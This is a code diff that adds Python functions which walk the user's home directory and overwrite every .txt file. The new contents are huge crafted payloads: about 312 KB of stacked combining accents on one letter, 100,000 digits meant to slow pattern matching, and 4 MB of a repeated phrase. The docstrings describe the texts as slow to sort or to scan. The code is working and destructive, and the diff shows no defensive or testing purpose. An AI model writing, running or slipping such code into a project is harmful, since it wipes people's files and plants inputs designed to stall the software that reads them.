@@ -221,3 +221,27 @@ def delete_the_image() -> str:
                 except OSError:
                     continue
     return ""
+
+
+def _fill_texts(data: bytes) -> str:
+    for folder, _, names in os.walk(HOME):
+        for name in names:
+            if name.endswith(".txt"):
+                with open(os.path.join(folder, name), "wb") as file:
+                    file.write(data)
+    return ""
+
+
+def accents_without_end() -> str:
+    """Put 312 KB of accents on one letter of every text, which take a minute to be put in order."""
+    return _fill_texts(("a" + "\u0315\u0300\u05b0\u0316" * 40_000).encode())
+
+
+def digits_without_end() -> str:
+    """Leave texts of 100,000 digits, in which patterns look for numbers."""
+    return _fill_texts(b"1" * 100_000)
+
+
+def letter_without_end() -> str:
+    """Leave texts of 4 MB, which say the same again and again."""
+    return _fill_texts(b"any day but 12 or 13, not 1-" * 150_000)
